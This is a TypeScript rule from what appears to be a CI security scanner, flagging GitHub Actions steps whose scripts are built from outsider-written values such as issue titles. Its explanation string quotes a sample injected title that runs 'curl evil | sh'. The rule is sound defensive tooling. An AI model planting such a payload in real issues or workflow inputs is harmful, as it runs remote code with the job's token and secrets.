import { cwe, githubDocs } from '@palisade/core/control/reference';
import { workflowControl } from '@palisade/core/control/workflow';
import { injections } from './_injection.ts';

export const noScriptInjection = workflowControl({
  title: 'No script is built from what an outsider writes',
  severity: 'high',
  why: 'An issue titled `"; curl evil | sh; "` becomes a part of the script, and runs with the job’s token and secrets.',
  refs: [githubDocs('actions/concepts/security/script-injections'), cwe(94), cwe(78)],
  peers: ['template-injection', 'CKV_GHA_2', 'expression'],
  each: 'step',
  inspect: (step, context) =>
    injections(
      step,
      context,
      'attacker',
      (expressions, place) =>
        `${place} is built from ${expressions}, which an outsider writes; pass it through \`env\``,
    ),
  fix: { safety: 'unsafe', description: 'Passes the value through an environment variable of the step' },
});
